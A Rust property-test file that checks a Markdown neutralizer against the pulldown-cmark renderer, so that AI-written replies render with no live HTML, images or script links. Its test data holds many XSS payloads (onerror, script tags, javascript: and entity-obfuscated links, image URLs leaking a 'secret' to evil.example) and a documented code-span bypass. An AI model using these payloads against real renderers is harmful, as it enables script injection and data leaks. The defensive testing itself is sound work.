//! The Markdown neutralizer against a real CommonMark renderer: whatever a
//! model writes, once made inert it renders with no live HTML, no image, and
//! no link to a script or data URL. pulldown-cmark (with GitHub's tables,
//! strikethrough, task lists and footnotes) stands for the previewers, wikis
//! and MCP clients that render transcript.md, `show` and the exports.
//!
//! The generator builds text from the pieces such attacks are made of — code
//! spans and fences opened on one line and closed on another, link
//! destinations and titles, reference definitions, table rows, containers,
//! entities, escapes and line endings — so that the neutralizer's idea of
//! what is code is tested against the renderer's, not only its output.

use agon_core::inert_markdown;
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

/// What a renderer did with text that should have been inert, if anything.
fn live(markdown: &str) -> Option<String> {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_GFM
        | Options::ENABLE_MATH;
    for event in Parser::new_ext(markdown, options) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => return Some(format!("raw HTML {html:?}")),
            Event::Start(Tag::Image { dest_url, .. }) => return Some(format!("an image of {dest_url:?}")),
            Event::Start(Tag::Link { dest_url, .. }) if !plain_destination(&dest_url) => {
                return Some(format!("a link to {dest_url:?}"));
            }
            _ => {}
        }
    }
    None
}

/// Web, mail or a path: no other scheme, however spelled.
fn plain_destination(url: &str) -> bool {
    let url: String = url.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
    let lower = url.to_ascii_lowercase();
    if ["http://", "https://", "mailto:"].iter().any(|s| lower.starts_with(s)) {
        return true;
    }
    let head = &lower[..lower.find(['/', '?', '#']).unwrap_or(lower.len())];
    !head.contains(':')
}

/// The pieces generated text is made of.
const PIECES: &[&str] = &[
    // Code: spans and fences of every length, and what closes them.
    "`",
    "``",
    "```",
    "````",
    "~~~",
    "```html",
    "~~~ `x`",
    "\\`",
    "    ```",
    "      ~~~",
    "  - ```",
    "> ```",
    "1. ",
    // Line structure.
    "\n",
    "\n",
    "\n\n",
    "\r",
    "\r\n",
    " ",
    "   ",
    "    ",
    "\t",
    "> ",
    "- ",
    "1. ",
    "# ",
    "===",
    "---",
    "| ",
    " | ",
    "|---|---|",
    "| - |",
    // Delimiter rows as containers and bare cells spell them, and spans holding `|`.
    "-|-",
    ":-:",
    " --- | :-- ",
    "> |-|",
    "`a|b`",
    "`openai/gpt-4o|anthropic/claude-3`",
    "`x | <img src=x onerror=alert(1)> | y`",
    "[^1]",
    "[^1]: ",
    // What must never come out live.
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe src=https://evil.example>",
    "</div>",
    "<div>",
    "<!-- c -->",
    "<?php ?>",
    "<![CDATA[x]]>",
    "<a href=\"javascript:alert(1)\">",
    "<https://ok.example/a>",
    "<javascript:alert(1)>",
    "<x@y.z>",
    "![i](https://evil.example/p.png?q=secret)",
    "![i][r]",
    "![",
    "!",
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "[x]( JavaScript:alert(1) \"t\")",
    "[x](java&#115;cript:a)",
    "[x](<javascript:a>)",
    "[x](https://ok.example/a_(b))",
    "[x](docs/a.md)",
    "[r]: javascript:alert(1)",
    "[r]: https://ok.example \"t\"",
    "[r]:",
    "[x][r]",
    "[r]",
    "[",
    "]",
    "](",
    "][",
    "]:",
    "(",
    ")",
    "'",
    "\"",
    "javascript:alert(1)",
    "data:image/png,x",
    "vbscript:x",
    "&#106;avascript:x",
    "&lt;script&gt;",
    "&#60;b>",
    "<",
    ">",
    "\\",
    "\\\\",
    "*",
    "**",
    "_",
    "~~",
    "a",
    "Vec<String>",
    "x y",
    "www.evil.example",
    "https://ok.example",
    "***",
    "+ ",
    "* ",
    "&#x3C;img src=x onerror=alert(1)>",
    "&amp;",
    "`<b>`",
    "``<script>``",
    "<b>",
    "[a\\]",
    "\\<",
    "\\]",
];

/// Single characters Markdown gives a meaning to, for structure no piece spells.
const CHARACTERS: &[&str] = &[
    "`", "~", "<", ">", "!", "[", "]", "(", ")", "\\", ":", "|", "-", "*", "_", "^", "'", "\"", "&", "#", ";", "/",
    "=", "+", "$", "$$", "\n", " ", "\t", "a", "b", "j", "x", "1", ".",
];

fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![3 => prop::sample::select(PIECES), 1 => prop::sample::select(CHARACTERS)];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    // Thousands of cases, each a few hundred bytes: about a second. (300,000 passed
    // once, with the renderer's math, footnotes and tables on.)
    #![proptest_config(ProptestConfig::with_cases(6000))]

    #[test]
    fn inert_markdown_renders_nothing_live(text in text()) {
        let inert = inert_markdown(&text);
        prop_assert_eq!(live(&inert), None, "from {:?} came {:?}", text, inert);
        prop_assert_eq!(inert_markdown(&inert), inert.clone(), "not inert again as it is: {:?}", text);
    }

    /// Placed after the document's own Markdown, as the transcript places a
    /// reply, it cannot open anything that swallows what follows.
    #[test]
    fn inert_markdown_leaves_no_fence_open(text in text()) {
        let document = format!("{}\n\n## Outcome\n", inert_markdown(&text));
        let headings = Parser::new(&document)
            .filter(|e| matches!(e, Event::Start(Tag::Heading { .. })))
            .count();
        prop_assert!(headings >= 1, "the closing heading was swallowed: {:?}", document);
    }
}

/// The reply that got through: a code span opened on one line and closed on
/// the next made the scanner see the image as code, and the renderer as HTML.
#[test]
fn a_code_span_across_lines_hides_no_html() {
    for reply in [
        "a `b\nc` <img src=x onerror=alert(1)> `d`",
        "a `b\nc` <script>alert(1)</script> `d`",
        "a `b\nc` [x](javascript:alert(1)) `d`",
        "a `b\nc` ![t](https://evil.example/p.png) `d`",
        "a ``b\n\nc`` <iframe src=x> ``d``",
        "[a](`x) <img src=x onerror=alert(1)> `y`",
        "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)> | y` |",
        "```\r```\r<img src=x onerror=alert(1)>\n```",
        "[a](https://ok.example '\n` ') <img src=x onerror=alert(1)> `",
    ] {
        let inert = inert_markdown(reply);
        assert_eq!(live(&inert), None, "{reply:?} came out as {inert:?}");
    }
}

/// What is safe stays as written, so the transcript still reads as the reply.
#[test]
fn plain_markdown_is_left_as_it_is() {
    for safe in [
        "Use `Vec<String>` here, and `a < b`.",
        "```rust\nlet v: Vec<String> = vec![];\n```\n",
        "- one\n- two **bold** and _em_\n",
        "[docs](https://example.com/a) and [local](docs/a.md)",
        "| seat | model |\n|---|---|\n| a | `x` |\n",
        "**Panel:** Ada (`openai/gpt-4o|anthropic/claude-3-5`), Bo (`local/qwen-2`)\n",
    ] {
        assert_eq!(inert_markdown(safe), safe);
    }
}

/// A fallback chain (`a|b`) as code: shown as written in a line of text, and
/// in a table row kept in its one cell, as code, by a real renderer.
#[test]
fn a_code_span_holding_a_pipe_stays_code() {
    let options = Options::ENABLE_TABLES | Options::ENABLE_GFM;
    let panel = "**Panel:** Ops (`openai/gpt-4o|openai/gpt-4o-mini`), Dev (`openai/gpt-4o-mini`)";
    assert_eq!(inert_markdown(panel), panel);
    let table = "| seat | model | calls |\n|---|---|---:|\n| ops | `openai/gpt-4o|openai/gpt-4o-mini` | 1 |\n";
    let inert = inert_markdown(table);
    let events: Vec<Event> = Parser::new_ext(&inert, options).collect();
    let cells = events.iter().filter(|e| matches!(e, Event::Start(Tag::TableCell))).count();
    assert_eq!(cells, 6, "two rows of three cells: {events:?}");
    let code: Vec<&str> =
        events.iter().filter_map(|e| if let Event::Code(c) = e { Some(c.as_ref()) } else { None }).collect();
    assert_eq!(code, ["openai/gpt-4o|openai/gpt-4o-mini"]);
}
